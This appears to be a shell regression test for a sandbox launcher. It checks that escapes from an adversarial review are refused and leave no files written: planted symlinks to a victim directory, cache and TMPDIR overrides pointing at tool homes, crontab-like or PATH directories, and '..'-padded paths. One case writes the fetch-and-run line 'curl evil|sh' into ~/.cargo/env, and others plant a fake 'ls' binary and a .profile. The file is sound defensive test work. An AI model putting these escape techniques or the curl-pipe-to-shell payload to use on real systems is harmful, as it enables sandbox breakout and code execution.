#!/usr/bin/env bash
# The escapes an adversarial review of issue 16 found in the writable-root
# checks, one block each (docs/threat-model.md, "Writable roots"). Every
# refusal is exit 126, checked from outside the sandbox by what was or was
# not written, next to the legitimate setup that must keep working.
. "$SBX_TESTLIB"

base=$(mktemp -d /var/tmp/sbx-rev16.XXXXXX)   # outside /tmp (a root) and every home
chmod 755 "$base"
victim=$base/victim
mkdir "$victim" "$base/nproj"
sys=
me=$(id -u)
if [ "$me" = 0 ]; then
  # Root-owned, outside the shared temp directories: like /mnt/work or /srv.
  sys=$(mktemp -d /var/lib/sbx-rev16.XXXXXX)
  chmod 755 "$sys"
fi
trap 'rm -rf "$base" ${sys:+"$sys"}' EXIT

refused() { # NAME CMD...: exit 126 with a reason on stderr
  local name=$1
  shift
  expect_status 126 "$name" "$@"
  grep -q "refus" "$_err" && pass "  ...and says why" \
    || { fail "  ...without a reason"; sed 's/^/    | /' "$_err" | head -3; }
}
unwritten() { # FILE
  if [ ! -e "$1" ]; then pass "  ...and $1 was not written"; else fail "  ...but $1 was written"; rm -f "$1"; fi
}

# ---- 1. a link planted in a root of an EARLIER launch ----
if [ "$me" = 0 ]; then
  mono=$sys/mono
  mkdir -p "$mono/pkg"
  expect_status 0 "launch 1 (project $mono) swaps pkg for a link" \
    "$L" --sandbox --project "$mono" --workdir "$mono" -- sh -c "cd '$mono' && rm -rf pkg && ln -s '$victim' pkg"
  refused "launch 2 --project $mono/pkg (through the planted link) is refused" \
    "$L" --sandbox --project "$mono/pkg" --workdir "$mono/pkg" -- sh -c "echo x > '$mono/pkg/pwned'"
  unwritten "$victim/pwned"
  mkdir -p "$sys/exports"
  expect_status 0 "launch 1 (--output exports) plants exports/run2" \
    "$L" --class media --output "$sys/exports" -- sh -c "ln -s '$victim' '$sys/exports/run2'"
  refused "launch 2 --output exports/run2 is refused" \
    "$L" --class media --output "$sys/exports/run2" -- sh -c "echo x > '$sys/exports/run2/pwned'"
  unwritten "$victim/pwned"
  if [ -L /var/run ]; then
    expect_status 0 "legit: /var/run -> /run is still followed" \
      "$L" --sandbox --project "$base" --add-dir /var/run -- true
  fi
else
  skip "root: the planted-link cases need a directory outside the shared temp dirs, which nobody has none of (a unit test covers a user's links)"
fi

# ---- 2. cache overrides naming a tool's home ----
th=$base/home                     # a home of the test's own, outside /tmp
mkdir -p "$th/.cargo/registry" "$th/go/bin" "$th/.gradle/caches" "$th/.cache/go-build"
refused "XDG_CACHE_HOME=~/.cargo --writable-caches is refused" \
  env HOME="$th" XDG_CACHE_HOME="$th/.cargo" "$L" --sandbox --writable-caches --project "$base/nproj" -- \
  sh -c "echo 'curl evil|sh' > '$th/.cargo/env'"
unwritten "$th/.cargo/env"
refused "GOCACHE=~/go/bin --class build is refused" \
  env HOME="$th" GOCACHE="$th/go/bin" "$L" --class build --project "$base/nproj" -- sh -c "echo x > '$th/go/bin/ls'"
unwritten "$th/go/bin/ls"
refused "PIP_CACHE_DIR=~/.gradle --class build is refused" \
  env HOME="$th" PIP_CACHE_DIR="$th/.gradle" "$L" --class build --project "$base/nproj" -- true
expect_status 0 "legit: --class build with its default caches and GOCACHE=~/.cache/go-build" \
  env HOME="$th" GOCACHE="$th/.cache/go-build" "$L" --class build --project "$base/nproj" -- \
  sh -c "echo x > '$th/.cargo/registry/f' && echo x > '$th/.gradle/caches/f' && echo x > '$th/.cache/go-build/f'"

# ---- 3. a sticky root-owned TMPDIR is no shared temp directory ----
if [ "$me" = 0 ]; then
  if [ -d /run/lock ]; then
    refused "TMPDIR=/run/lock is refused for root" env TMPDIR=/run/lock "$L" --sandbox --project "$base" -- \
      sh -c 'echo x > /run/lock/sbx-rev16-pwned'
    unwritten /run/lock/sbx-rev16-pwned
  fi
  mkdir "$sys/crontabs"
  chmod 1730 "$sys/crontabs"
  refused "TMPDIR=a root-owned 1730 dir (like /var/spool/cron/crontabs) is refused" \
    env TMPDIR="$sys/crontabs" "$L" --sandbox --project "$base" -- sh -c "echo x > '$sys/crontabs/root'"
  unwritten "$sys/crontabs/root"
else
  [ -d /run/lock ] && refused "TMPDIR=/run/lock is refused" env TMPDIR=/run/lock "$L" --sandbox --project "$base" -- true
fi
expect_status 0 "legit: TMPDIR=/tmp" env TMPDIR=/tmp "$L" --sandbox --project "$base" -- sh -c 'echo x > /tmp/sbx-rev16-$$ && rm /tmp/sbx-rev16-$$'

# ---- 4. a missing component is never widened to its parent ----
refused "--add-dir VICTIM/nonexist/.. is refused" \
  "$L" --sandbox --project "$base/nproj" --add-dir "$victim/nonexist/.." -- sh -c "echo x > '$victim/pwned'"
unwritten "$victim/pwned"
long=$victim
for _ in $(seq 1100); do long=$long/x/..; done   # longer than PATH_MAX, lexically VICTIM
refused "an --add-dir longer than PATH_MAX is refused" \
  "$L" --sandbox --project "$base/nproj" --add-dir "$long" -- sh -c "echo x > '$victim/pwned'"
unwritten "$victim/pwned"
expect_status 0 "legit: a missing --add-dir is skipped" \
  "$L" --sandbox --project "$base/nproj" --add-dir "$base/not-yet" -- true

# ---- 5. a home inside the granted /tmp ----
mkdir -p "$_scratch/home"
refused "HOME=/tmp/x with /tmp writable is refused" \
  env HOME="$_scratch/home" "$L" --sandbox --project "$base/nproj" -- sh -c "echo x > '$_scratch/home/.profile'"
unwritten "$_scratch/home/.profile"
expect_status 0 "legit: HOME outside /tmp, /tmp writable" \
  env HOME="$th" "$L" --sandbox --project "$base/nproj" -- sh -c 'echo x > /tmp/sbx-rev16-$$ && rm /tmp/sbx-rev16-$$'

# ---- 6. an environment TMPDIR must be private and off PATH ----
mkdir "$base/t775"
chmod 775 "$base/t775"
refused "TMPDIR=a group-writable dir of ours is refused" \
  env TMPDIR="$base/t775" "$L" --sandbox --project "$base/nproj" -- true
mkdir -m 700 "$base/bin"
refused "TMPDIR=a PATH entry is refused" \
  env PATH="$base/bin:$PATH" TMPDIR="$base/bin" "$L" --sandbox --project "$base/nproj" -- sh -c "echo x > '$base/bin/ls'"
unwritten "$base/bin/ls"
mkdir -m 700 "$base/t700" "$base/t700/bin"
refused "TMPDIR=an ancestor of a PATH entry is refused" \
  env PATH="$base/t700/bin:$PATH" TMPDIR="$base/t700" "$L" --sandbox --project "$base/nproj" -- true
expect_status 0 "legit: TMPDIR=a private dir (mktemp -d)" \
  env TMPDIR="$(mktemp -d "$base/tmp.XXXXXX")" "$L" --sandbox --project "$base/nproj" -- sh -c 'echo x > "$TMPDIR/f"'

finish
